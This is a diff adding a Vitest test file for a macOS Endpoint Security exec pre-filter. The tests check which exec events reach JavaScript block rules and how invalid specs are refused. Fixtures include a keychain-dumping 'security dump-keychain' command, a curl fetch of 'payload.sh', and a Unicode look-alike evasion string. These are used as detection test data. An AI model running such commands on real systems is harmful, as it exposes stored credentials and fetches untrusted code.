@@ -1,0 +1,120 @@
+// The native pre-filter: AUTH execs no block rule can match are allowed in native code and still reported;
+// only candidates go to JavaScript; a spec the native side cannot honour exactly is refused.
+import { afterEach, beforeAll, describe, expect, it } from "vitest";
+
+import type { RawEvent } from "../../src/sensor/rawEvent.js";
+import { type EsHandle, type EsTestAddon, type MessageSpec, type PrefilterSpec, loadEsTestAddon, until } from "./es-standin/loadAddon.js";
+
+let addon: EsTestAddon;
+let handle: EsHandle | undefined;
+let events: RawEvent[] = [];
+const toJs: string[] = [];
+
+beforeAll(() => {
+  addon = loadEsTestAddon();
+}, 300_000);
+
+afterEach(() => {
+  if (handle) addon.stopEs(handle);
+  handle = undefined;
+  expect(addon.standin.state()).toMatchObject({ killed: false, violations: [] });
+  addon.standin.reset();
+});
+
+function start(prefilter: PrefilterSpec | null | undefined): EsHandle {
+  events = [];
+  toJs.length = 0;
+  const h = addon.startEs({ authExec: true, prefilter }, (batch) => {
+    for (const ev of batch) {
+      events.push(ev);
+      if (ev.auth) {
+        toJs.push(String(ev.args?.join(" ")));
+        addon.respond(h, ev.auth.id, true);
+      }
+    }
+  });
+  handle = h;
+  return h;
+}
+
+function exec(executable: string, args: (string | Uint8Array)[]): MessageSpec {
+  return { type: "auth_exec", version: 7, tag: String(args[0]), args, target: { pid: 77, executable } };
+}
+
+const execs: MessageSpec[] = [
+  exec("/bin/ls", ["ls", "-la", "/tmp"]),
+  exec("/usr/bin/security", ["security", "dump-keychain", "-d"]),
+  exec("/usr/bin/security", ["security", "DUMP-KEYCHAIN"]),
+  exec("/usr/bin/osascript", ["osascript", "-e", "display dialog"]),
+  exec("/usr/bin/git", ["git", "status"]),
+  exec("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://example.com/payload.sh"]),
+];
+
+async function run(specs: MessageSpec[]): Promise<void> {
+  addon.standin.enqueue(specs);
+  await until(() => events.length === specs.length && addon.standin.authRecords().every((r) => r.answers === 1), "every exec answered and reported");
+}
+
+describe("pre-filter", () => {
+  it("sends only candidates to JavaScript; the rest are allowed natively, uncached, and still reported", async () => {
+    const h = start({ argEquals: ["dump-keychain"], executableBasename: ["OSAScript"], argContains: ["payload.sh"] });
+    await run(execs);
+    expect(toJs).toEqual([
+      "security dump-keychain -d",
+      "security DUMP-KEYCHAIN",
+      "osascript -e display dialog",
+      "curl -o /tmp/x https://example.com/payload.sh",
+    ]);
+    expect(events.map((e) => e.executable)).toEqual(execs.map((e) => e.target!.executable));
+    expect(events.filter((e) => !e.auth).map((e) => e.args?.[0])).toEqual(["ls", "git"]);
+    expect(addon.standin.authRecords().every((r) => r.result === "allow" && r.cache === false)).toBe(true);
+    expect(addon.esStats(h)).toMatchObject({ prefiltered: 2, authToJs: 4, received: 6 });
+  });
+
+  it("no pre-filter: every AUTH exec goes to JavaScript", async () => {
+    start(null);
+    await run(execs);
+    expect(toJs).toHaveLength(execs.length);
+  });
+
+  it("an empty spec means no exec can match: all allowed natively", async () => {
+    const h = start({});
+    await run(execs);
+    expect(toJs).toEqual([]);
+    expect(addon.esStats(h).prefiltered).toBe(execs.length);
+  });
+
+  it("arguments or basenames with non-ASCII bytes are always candidates (ASCII folding is not Unicode folding)", async () => {
+    start({ argEquals: ["dump-keychain"], executableBasename: ["security"] });
+    await run([
+      exec("/usr/bin/env", ["env", "dump-\u212Aeychain"]), // KELVIN SIGN folds to k under Unicode rules
+      exec("/usr/bin/env", ["env", new Uint8Array([0x64, 0xff])]),
+      exec("/tmp/s\u00e9curity", ["x"]),
+      exec("/usr/bin/env", ["env", "plain"]),
+    ]);
+    expect(toJs).toHaveLength(3);
+  });
+
+  it("setPrefilter replaces the spec while running; null removes it", async () => {
+    const h = start({ argEquals: ["nothing-matches-this"] });
+    await run([execs[0]]);
+    expect(toJs).toEqual([]);
+    addon.setPrefilter(h, { executableBasename: ["ls"] });
+    events = [];
+    await run([execs[0]]);
+    expect(toJs).toEqual(["ls -la /tmp"]);
+    addon.setPrefilter(h, null);
+    events = [];
+    await run([execs[4]]);
+    expect(toJs).toEqual(["ls -la /tmp", "git status"]);
+  });
+
+  it("refuses specs it could not honour exactly, naming the problem", () => {
+    const h = start(null);
+    expect(() => addon.setPrefilter(h, { argRegex: ["x"] } as unknown as PrefilterSpec)).toThrow(/unknown key "argRegex"/);
+    expect(() => addon.setPrefilter(h, { argEquals: ["caf\u00e9"] })).toThrow(/argEquals.*not ASCII/);
+    expect(() => addon.setPrefilter(h, { argEquals: [3 as unknown as string] })).toThrow(/argEquals\[0\] must be a string/);
+    expect(() => addon.setPrefilter(h, { argContains: "x" as unknown as string[] })).toThrow(/argContains must be an array/);
+    expect(() => addon.setPrefilter(h, ["x"] as unknown as PrefilterSpec)).toThrow(/object or null/);
+  });
+});
